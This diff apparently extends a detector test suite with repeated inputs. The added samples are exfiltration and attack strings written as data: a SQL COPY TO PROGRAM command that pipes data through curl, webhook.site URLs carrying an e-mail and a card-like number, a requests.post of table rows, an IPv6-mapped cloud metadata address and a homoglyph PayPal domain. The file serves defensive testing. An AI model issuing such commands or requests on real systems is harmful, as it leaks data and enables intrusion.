@@ -53,6 +53,15 @@ const DETECTORS = {
 
 const inputs: Record<string, string> = {
   'one long word': rep('a'),
+  // URLs in data work (data-sinks.ts, inner.ts): data: targets after an attribute, SQL programs, nested redirects,
+  // catchers' queries of addresses, tables posted by name, IPv6 literals and wide dots in hosts.
+  'data: targets in attributes': rep('<iframe a b c src="data:image/svg+xml;utf8,%3Csvg%20on '),
+  'data: targets without a tag': rep('x src= data:text/html, ](data:text/html,'),
+  'SQL programs and shares': rep("COPY t TO PROGRAM 'curl -d @- a.b.c.d.e.f.g.h ' INTO OUTFILE '\\\\1.2.3.4\\"),
+  'nested redirects': rep('https://a.example/?u=https%253A%252F%252Fb%253Fu%253Dhttps%25253A%25252F%25252F '),
+  "catchers' queries": rep('https://webhook.site/x?r=a%40b.c,a%40b.c,4111111111111111,'),
+  'tables posted by name': rep('requests.post("https://webhook.site/x", json=rows) rows = rows = '),
+  'IPv6 and wide dots': rep('http://[0:0:0:0:0:ffff:169.254.169.254]/ https://paypal．com．x。y｡z/ '),
   // Raw e-mails' transfer encodings (mime.ts): headers with no blank line after them, parts back to back, long bodies.
   'transfer-encoding headers': rep('Content-Transfer-Encoding: base64\n'),
   'quoted-printable parts': rep('Content-Transfer-Encoding: quoted-printable\n\n=3D=3D=\n=3D\n\n'),
